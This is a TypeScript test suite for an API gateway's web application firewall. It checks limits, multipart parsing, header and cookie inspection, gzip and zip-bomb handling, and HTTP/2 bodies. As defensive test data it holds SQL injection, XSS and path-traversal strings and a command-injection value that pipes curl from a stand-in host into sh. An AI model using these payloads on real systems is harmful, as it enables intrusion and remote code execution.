/**
 * The WAF never fails open on size, format or protocol: past its limits a request is blocked
 * (onLimit block, 403/413 naming the limit) or inspected on its prefix and recorded
 * (inspect-prefix); multipart parts are read by busboy and ambiguous ones refused; every header a
 * client sets and every cookie is inspected; encoded bodies are decoded (bounded) or refused; and
 * an HTTP/2 body without content-length is inspected like any other. Each case asserts the
 * gateway's answer and what a real upstream, which logs every request, received.
 */
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createCa, makeCertDir, removeCertDir, writeCerts } from '../helpers/certs.ts';
import { type CapturedLogs, captureLogs, spec, startGateway, type TestGateway } from '../helpers/gateway.ts';
import { h2Request } from '../helpers/h2.ts';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';

const LIMITS = { maxValues: 64, maxValueBytes: 2048, maxBodyBytes: 4096 };
const SQLI = "1' OR '1'='1' -- ";
const UA =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';

interface Problem {
  code: string;
  status: number;
  limit?: string;
  max?: number;
  reason?: string;
  rules?: string[];
}

describe('WAF limits, multipart, headers, cookies, encodings and HTTP/2 bodies', () => {
  let up: TestUpstream;
  let gw: TestGateway;
  let logs: CapturedLogs;
  let certDir: string;
  let caPem: string;
  let httpsOrigin: string;

  beforeAll(async () => {
    up = await startUpstream({ name: 'svc' });
    const ca = await createCa();
    caPem = ca.cert;
    certDir = await makeCertDir();
    const pair = await writeCerts(certDir, 'gw', await ca.issue({ names: ['localhost'] }));
    logs = captureLogs('info');
    const validated = spec({ basePath: '/v', upstreams: [up.url], operations: { 'POST /items': 'createV' } });
    (validated.paths as Record<string, Record<string, Record<string, unknown>>>)['/items']!
      .post!.requestBody = {
      required: true,
      content: {
        'application/json': {
          schema: { type: 'object', required: ['name'], properties: { name: { type: 'string' } } },
        },
      },
    };
    gw = await startGateway(
      {
        block: spec({ basePath: '/b', upstreams: [up.url] }),
        prefix: spec({ basePath: '/p', upstreams: [up.url] }),
        validated,
      },
      {
        listen: {
          http: { port: 0, host: '127.0.0.1' },
          https: { port: 0, host: '127.0.0.1', ...pair },
        },
      },
      {
        logger: logs.logger,
        policies: {
          waf: [
            { match: { service: 'block' }, waf: { mode: 'block', ...LIMITS } },
            { match: { service: 'prefix' }, waf: { mode: 'block', ...LIMITS, onLimit: 'inspect-prefix' } },
            { match: { service: 'validated' }, waf: { mode: 'block' }, validate: { request: true } },
          ],
        },
      },
    );
    httpsOrigin = `https://localhost:${new URL(gw.addresses.https ?? '').port}`;
  }, 30_000);

  afterAll(async () => {
    await gw?.close();
    await up?.close();
    if (certDir) await removeCertDir(certDir);
  });

  /** Send over HTTP/1.1; the answer, its problem (if any) and what the upstream got meanwhile. */
  async function send(path: string, init: RequestInit = {}) {
    const before = up.seen.length;
    const res = await fetch(`${gw.url}${path}`, {
      ...init,
      headers: { 'user-agent': UA, ...(init.headers as Record<string, string>) },
      signal: AbortSignal.timeout(10_000),
    });
    const text = await res.text();
    const problem = res.headers.get('content-type')?.includes('problem+json')
      ? (JSON.parse(text) as Problem)
      : undefined;
    return { status: res.status, problem, reached: up.seen.slice(before) };
  }

  /** POST over HTTP/2 with no content-length: DATA frames only. */
  async function h2post(path: string, body: string, headers: Record<string, string> = {}) {
    const before = up.seen.length;
    const answer = await h2Request(httpsOrigin, caPem, path, {
      method: 'POST',
      body,
      headers: { 'user-agent': UA, 'content-type': 'application/json', ...headers },
    });
    const problem = answer.status >= 400 ? (JSON.parse(answer.body) as Problem) : undefined;
    return { status: answer.status, problem, reached: up.seen.slice(before) };
  }

  const many = (n: number, last: string) =>
    `${Array.from({ length: n }, (_, i) => `p${i}=v`).join('&')}&q=${encodeURIComponent(last)}`;
  const logged = (msg: string) => logs.lines.some((l) => l.msg === msg);

  describe('limits', () => {
    test('more values than maxValues: block answers 403 waf-limit-exceeded naming `values`', async () => {
      const r = await send(`/b/items?${many(100, SQLI)}`);
      expect(r.status).toBe(403);
      expect(r.problem).toMatchObject({ code: 'PC_WAF_LIMIT', limit: 'values', max: 64 });
      expect(r.reached).toEqual([]);
    });

    test('more values than maxValues: inspect-prefix judges the first ones and records the limit', async () => {
      const early = await send(`/p/items?q=${encodeURIComponent(SQLI)}&${many(100, 'x')}`);
      expect(early.status).toBe(403);
      expect(early.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(early.reached).toEqual([]);
      const late = await send(`/p/items?${many(100, SQLI)}`);
      expect(late.status).toBe(200);
      expect(late.reached).toHaveLength(1);
      expect(logged('WAF inspected a prefix of a request past a limit')).toBe(true);
    });

    test('query, headers and body share the count but not a blind spot: many headers count too', async () => {
      const headers = Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`x-h${i}`, 'v']));
      const r = await send('/b/items', { headers });
      expect(r.status).toBe(403);
      expect(r.problem).toMatchObject({ code: 'PC_WAF_LIMIT', limit: 'values' });
      expect(r.reached).toEqual([]);
    });

    test('one long value with the attack at its end: 403 `valueBytes`, or inspected prefix and recorded', async () => {
      const value = `${'x'.repeat(3000)} ${SQLI}`;
      const blocked = await send(`/b/items?q=${encodeURIComponent(value)}`);
      expect(blocked.status).toBe(403);
      expect(blocked.problem).toMatchObject({ code: 'PC_WAF_LIMIT', limit: 'valueBytes', max: 2048 });
      expect(blocked.reached).toEqual([]);
      const prefix = await send(`/p/items?q=${encodeURIComponent(value)}`);
      expect(prefix.status).toBe(200);
      expect(prefix.reached).toHaveLength(1);
    });

    test('a body longer than maxBodyBytes with the attack past the limit: 413 `bodyBytes`', async () => {
      const body = JSON.stringify({ pad: 'x'.repeat(5000), q: SQLI });
      const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body };
      const blocked = await send('/b/items', init);
      expect(blocked.status).toBe(413);
      expect(blocked.problem).toMatchObject({ code: 'PC_WAF_BODY_LIMIT', limit: 'bodyBytes', max: 4096 });
      expect(blocked.reached).toEqual([]);
      // inspect-prefix: the first 4096 bytes are inspected, the whole body is forwarded.
      const prefix = await send('/p/items', init);
      expect(prefix.status).toBe(200);
      expect(prefix.reached.map((s) => s.body)).toEqual([body]);
    });

    test('the same attack inside the prefix is blocked on the inspect-prefix route', async () => {
      const body = JSON.stringify({ q: SQLI, pad: 'x'.repeat(5000) });
      const r = await send('/p/items', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body,
      });
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });
  });

  describe('multipart', () => {
    const B = 'portcullisB0undary';
    const ct = { 'content-type': `multipart/form-data; boundary=${B}` };
    const body = (...parts: Array<[string, string]>) =>
      `${parts.map(([head, content]) => `--${B}\r\n${head}\r\n\r\n${content}\r\n`).join('')}--${B}--\r\n`;

    test.each<[string, string]>([
      [
        'an attack in a filename',
        body(['Content-Disposition: form-data; name="f"; filename="<svg onload=alert(1)>.png"', 'x']),
      ],
      ['an attack in a field', body(['Content-Disposition: form-data; name="q"', SQLI])],
      [
        'an attack in a file part (a filename no longer hides it)',
        body([
          'Content-Disposition: form-data; name="q"; filename="q.txt"\r\nContent-Type: text/plain',
          SQLI,
        ]),
      ],
    ])('%s is blocked', async (_what, payload) => {
      const r = await send('/b/upload', { method: 'POST', headers: ct, body: payload });
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });

    test.each<[string, string, string]>([
      [
        'two Content-Disposition headers',
        body([
          'Content-Disposition: form-data; name="a"\r\nContent-Disposition: form-data; name="b"; filename="x"',
          'v',
        ]),
        'multipart-disposition',
      ],
      [
        'a filename with ../',
        body(['Content-Disposition: form-data; name="f"; filename="../../app.js"', 'v']),
        'multipart-filename',
      ],
      [
        'name given twice',
        body(['Content-Disposition: form-data; name="a"; name="b"', 'v']),
        'multipart-duplicate-parameter',
      ],
      [
        'base64 transfer encoding',
        body(['Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64', 'eA==']),
        'multipart-transfer-encoding',
      ],
      [
        'a body cut short',
        `--${B}\r\nContent-Disposition: form-data; name="a"\r\n\r\nv`,
        'multipart-malformed',
      ],
    ])('%s is refused with 400', async (_what, payload, reason) => {
      const r = await send('/b/upload', { method: 'POST', headers: ct, body: payload });
      expect(r.status).toBe(400);
      expect(r.problem).toMatchObject({ code: 'PC_BAD_REQUEST', reason });
      expect(r.reached).toEqual([]);
    });

    test('a multipart body without a boundary is refused with 400', async () => {
      const r = await send('/b/upload', {
        method: 'POST',
        headers: { 'content-type': 'multipart/form-data' },
        body: body(['Content-Disposition: form-data; name="a"', 'v']),
      });
      expect(r.status).toBe(400);
      expect(r.problem).toMatchObject({ code: 'PC_BAD_REQUEST', reason: 'multipart-no-boundary' });
      expect(r.reached).toEqual([]);
    });

    test('a benign upload reaches the upstream byte for byte', async () => {
      const form = new FormData();
      form.append('title', 'Holiday photos');
      form.append('file', new Blob(['Dinner at 8, bring wine.'], { type: 'text/plain' }), 'notes.txt');
      const r = await send('/b/upload', { method: 'POST', body: form });
      expect(r.status).toBe(200);
      expect(r.reached).toHaveLength(1);
      expect(r.reached[0]?.body).toContain('Dinner at 8, bring wine.');
      expect(r.reached[0]?.body).toContain('filename="notes.txt"');
    });
  });

  describe('path parameters', () => {
    test.each([
      ['SQL injection', `/b/items/${encodeURIComponent("1' OR '1'='1")}`],
      ['a UNION query', `/b/items/${encodeURIComponent('1 union select password from users')}`],
      ['a shell command', `/b/items/${encodeURIComponent('$(curl evil.example|sh)')}`],
      ['XSS', `/b/items/${encodeURIComponent('<svg onload=alert(1)>')}`],
    ])('%s in a path parameter is judged like an argument and blocked', async (_d, path) => {
      const r = await send(path);
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });

    test.each([
      ['an id', '/b/items/7f3c-91ab'],
      ['a name with an apostrophe', `/b/items/${encodeURIComponent("O'Brien")}`],
      ['a slug', '/b/items/summer-sale-2026'],
    ])('%s passes', async (_d, path) => {
      const r = await send(path);
      expect(r.status).toBe(200);
      expect(r.reached).toHaveLength(1);
    });
  });

  describe('headers and cookies', () => {
    test.each([
      'x-real-ip',
      'x-forwarded-for',
      'x-forwarded-host',
      'forwarded',
      'x-tenant',
      'accept-language',
    ])('SQLi in %s is blocked', async (name) => {
      const r = await send('/b/items', { headers: { [name]: SQLI } });
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });

    test('well-formed forwarding headers pass', async () => {
      const r = await send('/b/items', {
        headers: {
          'x-real-ip': '203.0.113.9',
          'x-forwarded-for': '203.0.113.9, 10.0.0.2',
          accept: 'application/json, */*;q=0.8',
        },
      });
      expect(r.status).toBe(200);
      expect(r.reached).toHaveLength(1);
    });

    test.each<[string, string]>([
      ['a cookie value', `session=abc; pref=${encodeURIComponent(SQLI)}`],
      ['the second of a repeated cookie name', `id=1; id=${encodeURIComponent(SQLI)}`],
      ['a cookie segment without a name', 'a=1; <script>alert(1)</script>'],
    ])('an attack in %s is blocked', async (_what, cookie) => {
      const r = await send('/b/items', { headers: { cookie } });
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });
  });

  describe('encoded bodies', () => {
    const gz = (v: unknown) => gzipSync(Buffer.from(JSON.stringify(v)));

    test('a gzip body carrying an attack is decoded and blocked', async () => {
      const r = await send('/b/items', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        body: gz({ q: SQLI }),
      });
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });

    test('a benign gzip body is forwarded decoded, as inspected, without Content-Encoding', async () => {
      const r = await send('/b/items', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        body: gz({ name: 'Widget', qty: 2 }),
      });
      expect(r.status).toBe(200);
      const seen = r.reached[0];
      expect(seen?.body).toBe(JSON.stringify({ name: 'Widget', qty: 2 }));
      expect(seen?.headers['content-encoding']).toBeUndefined();
      expect(seen?.headers['content-length']).toBe(String(seen?.body.length));
    });

    test('a zip bomb is 413 once decoded past the WAF limit', async () => {
      const r = await send('/b/items', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        body: gzipSync(Buffer.alloc(10_000_000, 0x20)),
      });
      expect(r.status).toBe(413);
      expect(r.problem).toMatchObject({ code: 'PC_WAF_BODY_LIMIT', limit: 'bodyBytes' });
      expect(r.reached).toEqual([]);
    });

    test('an unknown Content-Encoding is 415', async () => {
      const r = await send('/b/items', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-encoding': 'lzma' },
        body: 'whatever',
      });
      expect(r.status).toBe(415);
      expect(r.problem?.code).toBe('PC_UNSUPPORTED_ENCODING');
      expect(r.reached).toEqual([]);
    });
  });

  describe('HTTP/2 bodies without content-length', () => {
    test('an attack is read, inspected and blocked', async () => {
      const r = await h2post('/b/items', JSON.stringify({ q: SQLI }));
      expect(r.status).toBe(403);
      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
      expect(r.reached).toEqual([]);
    });

    test('a benign body reaches the upstream intact', async () => {
      const body = JSON.stringify({ name: 'Widget', note: 'x'.repeat(1000) });
      const r = await h2post('/b/items', body);
      expect(r.status).toBe(200);
      expect(r.reached.map((s) => s.body)).toEqual([body]);
    });

    test('a body over maxBodyBytes is 413, not streamed past the WAF', async () => {
      const r = await h2post('/b/items', JSON.stringify({ pad: 'x'.repeat(5000), q: SQLI }));
      expect(r.status).toBe(413);
      expect(r.problem).toMatchObject({ code: 'PC_WAF_BODY_LIMIT', limit: 'bodyBytes' });
      expect(r.reached).toEqual([]);
    });

    test('validate reads it too: a body breaking the schema is 400, a valid one is forwarded', async () => {
      const bad = await h2post('/v/items', JSON.stringify({ title: 'no name' }));
      expect(bad.status).toBe(400);
      expect(bad.problem?.code).toBe('PC_VALIDATION_FAILED');
      expect(bad.reached).toEqual([]);
      const good = await h2post('/v/items', JSON.stringify({ name: 'Widget' }));
      expect(good.status).toBe(200);
      expect(good.reached.map((s) => s.body)).toEqual([JSON.stringify({ name: 'Widget' })]);
    });
  });
});
